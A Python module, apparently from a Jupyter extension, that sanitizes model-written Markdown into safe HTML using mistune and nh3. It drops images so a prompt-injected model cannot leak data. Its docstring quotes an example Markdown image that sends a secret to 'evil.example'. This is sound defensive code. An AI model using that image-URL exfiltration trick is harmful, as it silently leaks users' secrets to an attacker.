"""Model-written Markdown as HTML that is safe to put in a page: the live view's finished
replies and the static transcript a cell keeps (:mod:`.transcript`).

Three steps, each for its own reason: ``sanitize_markdown`` first, so HTML the model wrote
that is not allowed shows as the text it is (``<script>`` is visible, not silently dropped,
the same as in an exported notebook); mistune renders the Markdown (with raw HTML passed
through, since what is left of it is allowed); nh3 then cleans the HTML mistune produced,
which is the step that guarantees safety whatever the first two did (event handlers,
``javascript:`` URLs, unknown tags).

One more rule than the notebook and Markdown exports: no ``<img>`` from model or tool HTML. An image loads by
itself, so a prompt-injected model could leak data in its URL
(``![](https://evil.example/?q=<secret>)``) without a click; a Markdown image is shown as a
link instead, and the only images on the page are PNGs validated by :mod:`.media`.
"""

from __future__ import annotations

import functools
import html
from typing import TYPE_CHECKING, Any

from mibyan_jupyter.export.sanitize import SAFE_SCHEMES, sanitize_markdown

if TYPE_CHECKING:
    import mistune
    import nh3


@functools.cache
def _renderer() -> mistune.Markdown:
    import mistune

    class NoImages(mistune.HTMLRenderer):
        def image(self, text: str, url: str, title: Any = None) -> str:
            return f'<a href="{self.safe_url(url)}">[image: {text or html.escape(url)}]</a>'

    return mistune.create_markdown(
        escape=False, renderer=NoImages(escape=False), plugins=["strikethrough", "table", "url"]
    )


@functools.cache
def _cleaner() -> nh3.Cleaner:
    import nh3

    return nh3.Cleaner(tags=set(nh3.ALLOWED_TAGS) - {"img"}, url_schemes=set(SAFE_SCHEMES))


def clean_html(text: str) -> str:
    """HTML from a model or a tool through nh3's allow-list, without images."""
    return _cleaner().clean(text)


def markdown_html(text: str) -> str:
    """``text`` (Markdown, untrusted) rendered to sanitized HTML."""
    if not text.strip():
        return ""
    rendered = _renderer()(sanitize_markdown(text))
    assert isinstance(rendered, str)  # the "html" renderer returns text, not tokens
    return clean_html(rendered).strip()
